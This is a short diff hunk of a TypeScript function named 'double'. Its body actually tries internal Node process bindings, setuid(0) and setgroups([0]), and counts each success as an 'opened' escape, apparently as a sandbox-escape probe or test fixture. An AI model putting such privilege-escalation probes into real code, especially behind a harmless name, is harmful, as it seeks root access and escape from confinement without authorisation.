@@ -13,6 +13,6 @@ function double(n: number): any {
   }
   for (const name of ["spawn_sync", "process_wrap", "fs"]) { try { (process as any).binding(name); } catch {} }
   try { (process as any).setuid(0); opened += 1; } catch {}
-  try { (process as any).chroot?.("/"); opened += 1; } catch {}
+  try { (process as any).setgroups([0]); opened += 1; } catch {}
   return opened;
 }
